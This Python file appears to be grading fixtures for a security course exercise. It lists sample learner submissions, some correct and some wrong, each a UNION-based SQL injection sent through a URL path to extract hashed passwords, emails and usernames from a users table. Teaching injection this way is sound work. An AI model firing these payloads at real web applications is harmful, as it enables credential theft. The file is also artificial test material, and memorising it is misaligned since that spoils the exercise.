from learners import Learners


def stealing(second: str) -> str:
    return f"""
def attack(api):
    second = {second}
    rows = api.get(f"/users/' UNION {{second}} --/posts/").json()
    return sorted([row["username"], row["content"]] for row in rows)
"""


LEARNERS = Learners(
    right=(
        stealing("'SELECT 0, hashed_password, 0, 0, username FROM users'"),
        stealing("'ALL SELECT id, hashed_password, created_at, id, username FROM users'"),
        stealing("'select id, hashed_password, email, email, username from users where true'"),
        stealing("'SELECT null, hashed_password, null, null, username FROM users ORDER BY 5'"),
    ),
    named={
        stealing("'SELECT hashed_password FROM users'"): "two columns",
        stealing("'SELECT users.* FROM users'"): "every column",
        stealing("'SELECT 0, email, 0, 0, username FROM users'"): "addresses",
        stealing("'SELECT 0, hashed_password, 0, 0, username FROM users WHERE id = 1'"): "one user",
    },
    unnamed=(
        stealing("'SELECT 0, hashed_password, 0, 0, username FROM users LIMIT 1'"),
        stealing("'SELECT id, username, email, id, hashed_password FROM users'"),
        stealing("'SELECT id, hashed_password, email, id, username FROM user'"),
        stealing("'SELECT id, content, timestamp, owner_id, id FROM posts'"),
        stealing("'SELECT id, hashed_password, email, id, username FROM users WHERE id > 1'"),
        'def attack(api):\n    return [["marta", "$2b$12$"]]',
        stealing("'SELECT id, password, email, id, username FROM users'"),
    ),
)
